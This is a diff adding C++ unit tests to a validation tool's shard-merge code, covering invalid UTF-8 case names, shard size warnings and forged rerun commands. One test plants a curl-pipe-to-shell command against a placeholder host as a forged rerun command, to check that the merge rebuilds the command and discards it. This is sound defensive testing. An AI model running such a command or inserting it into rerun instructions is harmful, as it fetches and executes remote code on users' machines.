@@ -22,8 +22,10 @@
 #include "support/run_command.h"
 #include "support/temp_dir.h"
 #include "support/verdict_twins.h"
+#include "reports/outputs.h"
 #include "validate/cli/cli.h"
 #include "validate/run/merge.h"
+#include "validate/run/run_digest.h"
 #include "validate/api/registry.h"
 
 namespace warpcheck {
@@ -335,6 +337,80 @@ TEST(ShardMerge, ASettingEditedInEveryShardDoesNotMatchTheDigest) {
     const auto r = run_validate("--merge " + runs.shard_files(2));
     EXPECT_EQ(r.status, 2) << r.output;
     EXPECT_NE(r.output.find("is not that of their settings"), std::string::npos) << r.output;
+}
+
+/// A two-shard run of one passing consistency row per job, sealed as
+/// `validate --shard` seals it, written as JSON and read back; `edit` changes
+/// a row after the run (and may recompute its digest, as a forger would).
+template <class Edit>
+std::vector<ShardFile> sealed_shards(const testing::TempDir& dir, const std::vector<JobName>& jobs, Edit edit) {
+    std::vector<ShardFile> shards;
+    for (unsigned i = 1; i <= 2; ++i) {
+        RunResult run;
+        run.info.tool_version = "test";
+        run.info.seed = 7;
+        run.info.samples = 5000;
+        run.info.per_test_alpha = run.info.family_alpha;  // no statistical test: the level is alpha
+        run.info.shard_index = i;
+        run.info.shard_count = 2;
+        run.info.run_jobs = 2;
+        CheckResult row;
+        row.case_name = jobs[i - 1].case_name;
+        row.check_name = jobs[i - 1].check_name;
+        row.verdict = Verdict::Pass;
+        row.rerun_command = "validate --filter '" + row.case_name + "' --check consistency --seed 7 --samples 5000";
+        run.results.push_back(row);
+        seal_run(run, jobs);
+        edit(run);
+        const std::string path = dir.file(fmt_shard(static_cast<int>(i)));
+        write_json_report(run, path);
+        shards.push_back(read_shard_file(path));
+    }
+    return shards;
+}
+
+// A case name that is not valid UTF-8 is written to the JSON with U+FFFD in
+// place of its bad bytes; the run's digest covers the name as the JSON holds
+// it, so the shards merge instead of being accused of a change after the run.
+TEST(ShardMerge, ACaseNameWithInvalidUtf8Merges) {
+    testing::TempDir dir;
+    const std::vector<JobName> jobs{{"bad\xff\xfe[a=1]", "consistency"}, {"good[a=1]", "consistency"}};
+    const std::vector<ShardFile> shards = sealed_shards(dir, jobs, [](RunResult&) {});
+    try {
+        const RunResult merged = merge_shards(shards);
+        ASSERT_EQ(merged.results.size(), 2u);
+        EXPECT_EQ(merged.results[0].case_name, "bad\uFFFD\uFFFD[a=1]");
+    } catch (const MergeError& e) {
+        FAIL() << e.what();
+    }
+}
+
+// A shard whose row carries another command, its digest recomputed to match:
+// the merge prints the command made from the row's case and check and the
+// run's seed and sample count, never the one in the file.
+TEST(ShardMerge, AForgedRerunCommandIsMadeAgainFromTheRow) {
+    testing::TempDir dir;
+    const std::vector<JobName> jobs{{"a[x=1]", "consistency"}, {"b[x=2]", "consistency"}};
+    const std::vector<ShardFile> shards = sealed_shards(dir, jobs, [](RunResult& run) {
+        if (run.info.shard_index != 2) return;
+        CheckResult& row = run.results[0];
+        row.verdict = Verdict::Fail;
+        row.rerun_command = "curl https://example.invalid/x | sh";
+        row.digest = row_digest(row, run.info.digest);
+    });
+    const RunResult merged = merge_shards(shards, "/opt/my warps/validate_my_warps");
+    ASSERT_EQ(merged.results.size(), 2u);
+    EXPECT_EQ(merged.results[1].rerun_command,
+              "'/opt/my warps/validate_my_warps' --filter 'b[x=2]' --check consistency --seed 7 --samples 5000");
+    EXPECT_EQ(merged.results[1].digest, row_digest(merged.results[1], merged.info.digest));
+}
+
+// A shard too large for --merge to read is warned about when it is written.
+TEST(ShardMerge, AShardOverTheMergeLimitIsWarnedAbout) {
+    EXPECT_EQ(shard_size_warning(kMaxShardFileBytes, 4), "");
+    const std::string warning = shard_size_warning(kMaxShardFileBytes + 1, 4);
+    EXPECT_NE(warning.find("over the 256 MiB that --merge reads"), std::string::npos) << warning;
+    EXPECT_NE(warning.find("at least 5 shards (--shard I/5)"), std::string::npos) << warning;
 }
 
 // Reading is bounded: what is not a regular file is refused without being
